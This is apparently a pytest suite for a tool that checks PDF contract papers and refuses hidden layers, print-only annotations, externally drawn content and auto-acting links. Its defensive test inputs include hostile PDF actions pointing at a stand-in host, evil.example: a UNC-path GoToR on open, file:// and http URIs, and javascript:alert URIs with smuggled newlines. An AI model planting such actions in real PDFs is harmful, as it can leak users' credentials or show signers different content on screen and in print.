"""A paper shows everybody the same, on the screen and in print, and calls nobody by itself."""

from io import BytesIO

import ordinary
import pdfs
import pikepdf
import pytest
from reading import text_of

from chalicelib.contracts.paper.joining import join
from chalicelib.contracts.paper.judging import objections
from chalicelib.contracts.paper.looking import look_into
from chalicelib.contracts.paper.model import Part

LAYER = b"<</Type/OCG/Name(x)>>"
LISTED = b"/OCProperties<</OCGs[4 0 R]/D<</ON[4 0 R]%s>>%s>>"
FORM = b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]%s/Length 7>>\nstream\n0 0 m f\nendstream"
IMAGE = b"<</Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray%s/Length 1>>"
IMAGE += b"\nstream\n0\nendstream"
UNC = rb"(\\\\evil.example\\share\\x.pdf)"


def layered(layer=LAYER, usual=b"", more=b""):
    return pdfs.of_one_page(b"", layer, root=LISTED % (usual, more))


def used(layer):
    return layered(b"<</Type/OCG/Name(x)/Usage<<%s>>>>" % layer)


def member(about):
    return pdfs.of_one_page(b"", LAYER, about, root=LISTED % (b"", b""))


@pytest.mark.parametrize(
    "pdf",
    [
        layered(usual=b"/OFF[4 0 R]"),
        layered(usual=b"/BaseState/OFF"),
        layered(usual=b"/BaseState/Unchanged"),
        layered(more=b"/Configs[<</Name(y)/OFF[4 0 R]>>]"),
        used(b"/View<</ViewState/OFF>>/Print<</PrintState/ON>>"),
        used(b"/Print<</PrintState/OFF>>"),
        used(b"/Export<</ExportState/OFF>>"),
        used(b"/Zoom<</min 2>>"),
        used(b"/User<</Type/Ind/Name(a)>>"),
        pdfs.of_one_page(b"", b"<</Name(x)/Usage<</View<</ViewState/OFF>>>>>>"),
        member(b"<</Type/OCMD/OCGs[4 0 R]/P/AllOff>>"),
        member(b"<</Type/OCMD/OCGs[4 0 R]/P/AnyOff>>"),
        member(b"<</Type/OCMD/VE[/Not 4 0 R]>>"),
    ],
    ids=[
        "off",
        "off at first",
        "as it was",
        "another setting",
        "print only",
        "screen only",
        "not saved",
        "from near",
        "for some",
        "listed nowhere",
        "while another is off",
        "while one is off",
        "by a rule",
    ],
)
def test_layers_that_are_not_seen_everywhere_are_refused(pdf):
    (objection,) = objections(look_into(pdf))
    assert "レイヤー" in objection
    assert "「印刷」" in objection


@pytest.mark.parametrize(
    "about",
    [
        b"/Subtype/Stamp/F 36/AP<</N 5 0 R>>",
        b"/Subtype/Stamp/F 0/AP<</N 5 0 R>>",
        b"/Subtype/Square/F 2/AP<</N 5 0 R>>",
        b"/Subtype/Square/F 260/AP<</N 5 0 R>>",
        b"/Subtype/Watermark/FixedPrint<</Type/FixedPrint>>/AP<</N 5 0 R>>",
        b"/Subtype/Link/F 36/AP<</N 5 0 R>>",
        b"/Subtype/Popup/AP<</N 5 0 R>>",
        b"/AP<</N 5 0 R>>",
    ],
    ids=[
        "print only",
        "screen only",
        "hidden",
        "toggled",
        "watermark",
        "link with a picture",
        "popup of nothing",
        "of no kind",
    ],
)
def test_what_lies_over_a_page_is_refused(about):
    note = b"<</Type/Annot/Rect[8 8 80 80]%s>>" % about
    (objection,) = objections(look_into(pdfs.of_one_page(b"/Annots[4 0 R]", note, FORM % b"")))
    assert "注釈" in objection
    assert "「印刷」" in objection


@pytest.mark.parametrize("kind", [b"/Link", b"/L#69nk", b" 6 0 R"])
@pytest.mark.parametrize("frame", [b"/Border[0 0 90]", b"/BS<</W 90>>", b"", b"/Border 5 0 R"])
def test_a_link_keeps_no_frame_that_paints_over_the_page(frame, kind):
    """Some draw it on the screen and not in print; where nothing is told, it is a black line."""
    link = b"<</Subtype%s/C[1 1 1]/A<</S/URI/URI(https://example.jp/)>>/Rect[8 8 80 80]%s>>"
    pdf = pdfs.of_one_page(b"/Annots[4 0 R]", link % (kind, frame), b"[0 0 90]", b"/Link")
    with pikepdf.open(BytesIO(join([Part("図面", pdf)], "契約書").pdf)) as document:
        (link,) = document.pages[0].Annots
        assert list(link.Border) == [0, 0, 0]
        assert set(link.keys()) == {"/Subtype", "/A", "/Rect", "/Border"}


def test_a_note_and_the_window_it_opens_in_are_one_thing():
    note = b"<</Type/Annot/Subtype/Text/Rect[8 8 9 9]/Popup 5 0 R>>"
    window = b"<</Type/Annot/Subtype/Popup/Rect[8 8 9 9]/Parent 4 0 R>>"
    assert look_into(pdfs.of_one_page(b"/Annots[4 0 R 5 0 R]", note, window)).comments == 1


@pytest.mark.parametrize(
    "body",
    [
        b"<</Length 0/F<</FS/URL/F(http://evil.example/c)>>>>\nstream\n\nendstream",
        b"<</Length 0/F(C:/x.txt)>>\nstream\n\nendstream",
        FORM % b"/Ref<</F(other.pdf)/Page 0>>",
        FORM % b"/OPI<</1.3<</F(other.tif)>>>>",
        FORM % b"/Subtype2/PS",
        FORM.replace(b"/Subtype/Form", b"/Subtype/PS") % b"",
        IMAGE % b"/Alternates[<</Image 4 0 R/DefaultForPrinting true>>]",
        b"<</Type/ExtGState/TR 5 0 R>>",
        b"<</Type/ExtGState/TR2[/Identity/Identity/Identity 5 0 R]>>",
    ],
    ids=[
        "bytes of an address",
        "bytes of a file",
        "page of another file",
        "picture of another file",
        "program for printers",
        "another program",
        "picture for print",
        "colours turned",
        "one colour turned",
    ],
)
def test_what_is_drawn_from_elsewhere_or_otherwise_in_print_is_refused(body):
    turning = b"<</FunctionType 2/Domain[0 1]/C0[1]/C1[0]/N 1>>"
    (objection,) = objections(look_into(pdfs.of_one_page(b"", body, turning)))
    assert "画面と印刷で見えるものが変わります" in objection


def pressed(action):
    return b"/Annots[<</Subtype/Link/Rect[8 8 9 9]/A<<%s>>>>]" % action


@pytest.mark.parametrize(
    ("page", "root"),
    [
        (b"", b"/OpenAction<</S/GoToR/F%s/D[0/Fit]>>" % UNC),
        (b"", b"/OpenAction<</S/GoToE/F(x.pdf)/D[0/Fit]>>"),
        (b"", b"/OpenAction<</S/URI/URI(http://evil.example/)>>"),
        (b"", b"/OpenAction<</S/Hide/T(sq)/H true>>"),
        (b"", b"/OpenAction<</S/Named/N/Print>>"),
        (b"", b"/AA<</WC<</S/GoTo>>>>"),
        (b"/AA<</O<</S/SetOCGState/State[/Toggle 3 0 R]>>>>", b""),
        (b"/PresSteps<</Type/NavNode/NA<</S/SetOCGState/State[]>>>>", b""),
        (pressed(b"/S/GoToR/F%s/D[0/Fit]" % UNC), b""),
        (pressed(b"/S/GoTo/Next<</S/GoToE/D[0/Fit]>>"), b""),
        (pressed(b"/S/Invented"), b""),
        (pressed(b"/S/URI/URI(javascript:alert\\(1\\))"), b""),
        (pressed(b"/S/URI/URI(file://evil.example/share)"), b""),
        (pressed(b"/S/URI/URI(%s)" % (b"\\" * 4 + b"evil.example")), b""),
        (pressed(b"/S/URI/URI(java\\nscript:alert\\(1\\))"), b""),
        (pressed(b"/S/URI/URI(https://example.jp/\\njavascript:1)"), b""),
        (pressed(b"/S/URI"), b""),
    ],
)
def test_what_leads_out_of_the_document_or_acts_by_itself_is_refused(page, root):
    (objection,) = objections(look_into(pdfs.of_one_page(page, root=root)))
    assert "しかけ" in objection


@pytest.mark.parametrize(
    "about",
    [
        b"/FT/Sig/T(x)",
        b"/FT/Tx/T(x)/V(1)",
        b"/T(of no kind)",
    ],
)
def test_a_paper_brings_no_field_of_its_own_not_even_an_empty_one_for_a_signature(about):
    field = b"<</Type/Annot/Subtype/Widget/Rect[0 0 9 9]%s>>" % about
    root = b"/AcroForm<</Fields[4 0 R]>>"
    looks = look_into(pdfs.of_one_page(b"/Annots[4 0 R]", field, root=root))
    assert (looks.fields, looks.signatures) == (1, ())
    (objection,) = objections(looks)
    assert "署名欄" in objection


ORDINARY = {
    name: getattr(ordinary, name)
    for name in (
        "word",
        "excel_by_acrobat",
        "just_pdf",
        "quartz",
        "libreoffice",
        "reportlab",
        "archive",
        "edited_in_acrobat",
        "drawing",
    )
}


@pytest.mark.parametrize("make", ORDINARY.values(), ids=ORDINARY)
def test_papers_of_everyday_programs_are_taken(make):
    pdf = make()
    assert objections(look_into(pdf)) == ()
    joined = join([Part("契約書", pdf)], "契約書")
    assert text_of(joined.pdf) == text_of(pdf)
    assert objections(look_into(joined.pdf)) == ()


def test_links_of_a_single_paper_lead_where_they_led():
    joined = join([Part("契約書", ordinary.word())], "契約書")
    with pikepdf.open(BytesIO(joined.pdf)) as document:
        web, mail, page = document.pages[0].Annots
        assert str(web.A.URI).startswith("https://www.example.lg.jp/")
        assert str(mail.A.URI) == "mailto:keiyaku@example.lg.jp"
        assert page.Dest[0].objgen == document.pages[1].obj.objgen


def test_layers_of_a_drawing_are_only_pages_once_it_is_bound():
    joined = join([Part("図面", ordinary.drawing())], "契約書")
    assert joined.notes == (
        "「図面」の層（レイヤー）は切り替えられなくなります。すべて表示されます。",
    )
    with pikepdf.open(BytesIO(joined.pdf)) as document:
        assert "/OCProperties" not in document.Root
